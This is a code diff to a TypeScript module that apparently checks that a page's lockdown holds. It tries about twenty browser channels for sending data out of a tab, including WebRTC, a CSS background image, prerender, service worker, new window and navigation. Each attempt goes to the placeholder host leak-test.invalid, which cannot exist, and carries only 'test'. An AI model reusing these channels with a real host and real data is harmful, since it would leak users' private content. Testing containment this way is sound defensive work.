@@ -1,3 +1,5 @@
+import { navigation } from './close-doors';
+
 /**
  * Tries every way out of the tab that a page has, to a name that can never exist (RFC 2606), so that a visitor can watch
  * each being refused. Carries nothing but the word "test".
@@ -23,7 +25,14 @@ export type LeakWay =
   | 'prefetch'
   | 'worker'
   | 'nested-worker'
-  | 'service-worker';
+  | 'service-worker'
+  | 'css'
+  | 'prerender'
+  | 'new-window'
+  | 'navigation'
+  | 'cookie'
+  | 'session-storage'
+  | 'file-system';
 
 export interface LeakAttempt {
   readonly way: LeakWay;
@@ -35,6 +44,7 @@ export interface LeakAttempt {
 const host = 'leak-test.invalid';
 const target = `https://${host}/test`;
 const patienceMs = 1500;
+const closed = 'taken away when the page opened';
 
 /** One attempt: starts it, and says if it already knows that it failed. What it throws counts as refused. */
 type Attempt = () => void | string | Promise<void | string>;
@@ -58,7 +68,7 @@ const attempts: Readonly<Record<LeakWay, Attempt>> = {
     await new WebTransport(target).ready;
   },
   webrtc: () => {
-    if (typeof RTCPeerConnection !== 'function') return 'taken away when the page opened';
+    if (typeof RTCPeerConnection !== 'function') return closed;
     const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
     connection.createDataChannel('test');
     connection.close();
@@ -87,9 +97,39 @@ const attempts: Readonly<Record<LeakWay, Attempt>> = {
     new Worker(url).terminate();
   },
   'service-worker': async () => void (await navigator.serviceWorker.register(target)),
+  css: () =>
+    withElement('i', (element) => {
+      element.hidden = false; // what is not shown loads no picture
+      Object.assign(element.style, { position: 'fixed', width: '1px', height: '1px' });
+      element.style.backgroundImage = `url(${target})`;
+    }),
+  prerender: () =>
+    withElement('script', (script) => {
+      script.type = 'speculationrules';
+      script.textContent = JSON.stringify({ prerender: [{ urls: [target] }] });
+    }),
+  'new-window': () => (typeof window.open === 'function' ? void window.open(target) : closed),
+  navigation: () => {
+    let by: string | undefined;
+    const look = (event: Event) => {
+      if (event.defaultPrevented) by = closed;
+      event.preventDefault(); // whatever happens: the visitor's pictures are in this tab
+    };
+    navigation()?.addEventListener('navigate', look, { once: true });
+    location.assign(target);
+    return by;
+  },
+  cookie: () => {
+    document.cookie = 'leak-test=test; Max-Age=1';
+    return document.cookie ? undefined : closed;
+  },
+  'session-storage': () => (typeof sessionStorage === 'undefined' ? closed : undefined),
+  'file-system': () => (typeof navigator.storage.getDirectory === 'function' ? undefined : closed),
 };
 
-export const leakWays = Object.keys(attempts) as readonly LeakWay[]; // the record above names every way
+/** A browser that cannot hold a tab back is not asked to: it would lead away. */
+const leakWays = (Object.keys(attempts) as LeakWay[]) // the record above names every way
+  .filter((way) => way !== 'navigation' || navigation());
 
 /** Runs all attempts, one after another, and reports each as it ends. */
 export async function tryToLeak(onAttempt: (attempt: LeakAttempt) => void): Promise<void> {
